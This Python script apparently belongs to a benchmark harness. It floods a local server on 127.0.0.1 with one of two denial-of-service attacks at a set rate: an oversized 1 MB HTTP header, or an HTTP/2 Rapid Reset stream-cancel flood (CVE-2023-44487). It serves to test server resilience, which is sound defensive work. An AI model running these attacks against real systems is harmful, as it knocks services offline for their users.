"""One attacker in a process of its own: does the same deed to a front at a steady pace, from an address of its own.

What it sends is made once and not each time, so that an attack costs the attacker as little as it can. As a program it goes on
until the end of its standard input, and then says how many deeds were done; `bench.abuse` runs it.
"""

from __future__ import annotations

import argparse
import contextlib
import socket
import ssl
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from select import select
from typing import Final

import h2.config
import h2.connection
import h2.errors

SOURCE: Final = ("127.66.0.1", 0)
"""Not the visitors' address: what is counted for the one must not touch the others."""

TIMEOUT_SECONDS: Final = 5.0
TAKEN_BACK: Final = 2000
"""Requests of one connection; any bound on resets ends it long before."""

type Deed = Callable[[], None]


@contextlib.contextmanager
def connected(port: int) -> Iterator[socket.socket]:
    """A plain connection."""
    with socket.create_connection(("127.0.0.1", port), timeout=TIMEOUT_SECONDS, source_address=SOURCE) as connection:
        yield connection


def read_to_the_end(connection: socket.socket) -> None:
    """Until the other side has closed, whichever way."""
    with contextlib.suppress(OSError):
        while connection.recv(65_536):
            pass


def huge_head(port: int, _: Path | None) -> Deed:
    """One header of 1 MB; the answer, or a close, is waited for."""
    head = b"GET /profiles/1 HTTP/1.1\r\nHost: localhost\r\nX: " + b"a" * (1 << 20)

    def deed() -> None:
        with connected(port) as connection:
            with contextlib.suppress(OSError):  # closed before it was all sent
                connection.sendall(head)
            read_to_the_end(connection)

    return deed


def rapid_reset(port: int, authority: Path | None) -> Deed:
    """A connection that takes back every request at once, as fast as it can, until it is closed (CVE-2023-44487)."""
    trust = ssl.create_default_context(cafile=authority)
    trust.set_alpn_protocols(["h2"])
    peer = h2.connection.H2Connection(h2.config.H2Configuration(header_encoding="ascii"))
    peer.initiate_connection()
    fields = [(":method", "GET"), (":scheme", "https"), (":authority", "localhost"), (":path", "/profiles/1")]
    for _ in range(TAKEN_BACK):
        stream = peer.get_next_available_stream_id()
        peer.send_headers(stream, fields, end_stream=True)
        peer.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
    said = peer.data_to_send()

    def deed() -> None:
        with connected(port) as plain, trust.wrap_socket(plain, server_hostname="localhost") as connection:
            if connection.selected_alpn_protocol() != "h2":
                raise RuntimeError("no HTTP/2")
            with contextlib.suppress(OSError):  # closed before it was all sent
                connection.sendall(said)
            read_to_the_end(connection)

    return deed


DEEDS: Final[dict[str, Callable[[int, Path | None], Deed]]] = {"huge-head": huge_head, "rapid-reset": rapid_reset}


def go_on(deed: Deed, rate: float) -> int:
    """Do it again and again, at most `rate` times a second, until standard input ends; how often it was done.

    Time in which this process was stopped is not made up for.
    """
    done = 0
    due = time.monotonic()
    while not select([sys.stdin], [], [], max(0.0, due - time.monotonic()))[0]:
        due = max(due, time.monotonic() - 1 / rate) + 1 / rate
        with contextlib.suppress(OSError):
            deed()
            done += 1
    return done


def main() -> None:
    """Attack for whoever started this process."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("deed", choices=DEEDS)
    parser.add_argument("port", type=int)
    parser.add_argument("--rate", type=float, default=20.0, help="deeds a second, at most (default 20)")
    parser.add_argument("--authority", type=Path, help="trust this certificate")
    options = parser.parse_args()
    print(go_on(DEEDS[options.deed](options.port, options.authority), options.rate))


if __name__ == "__main__":
    main()
